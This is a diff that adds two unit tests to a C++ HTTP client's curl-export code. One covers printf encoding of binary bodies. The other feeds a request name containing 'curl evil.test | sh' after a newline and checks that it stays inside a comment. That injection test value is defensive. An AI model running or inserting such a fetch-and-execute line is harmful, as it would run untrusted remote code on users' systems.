@@ -121,6 +121,38 @@ private slots:
         QVERIFY(words.contains("https://api.test/items?key=K3y"));
     }
 
+    void binaryBodiesGoThroughPrintf()
+    {
+        Model::PreparedRequest request;
+        request.method = "PUT";
+        request.url = QUrl(u"https://api.test/blob"_s);
+        request.headers.append(Model::HeaderField{"Content-Type", "application/octet-stream"});
+        request.body = QByteArray("a\0b'c\\d%e\xff\n", 11);
+        const QString command = Interchange::curlCommand(request);
+        QVERIFY2(command.startsWith(u"printf '"_s), qPrintable(command));
+        QVERIFY(command.contains(u"--data-binary @-"_s));
+        QProcess bash;
+        bash.start(u"/bin/bash"_s, {u"-c"_s, command.section(u" | "_s, 0, 0)});
+        QVERIFY(bash.waitForFinished(10000));
+        QCOMPARE(bash.readAllStandardOutput(), request.body);
+    }
+
+    void namesNeverBreakOutOfTheirComment()
+    {
+        Model::Workspace workspace;
+        Model::Folder selection;
+        Model::RequestTemplate request;
+        request.name = u"x\ncurl evil.test | sh"_s;
+        request.url = u"https://api.test/"_s;
+        selection.requests.push_back({u"a.request.json"_s, request});
+        QStringList warnings;
+        Result<QString> commands =
+            Interchange::exportCurl(workspace, selection, nullptr, false, warnings);
+        QVERIFY(commands.ok());
+        QVERIFY2(commands.value().startsWith(u"# x curl evil.test | sh\ncurl "_s),
+                 qPrintable(commands.value()));
+    }
+
     void basicFromASecretBecomesUserOption()
     {
         Model::RequestTemplate request;
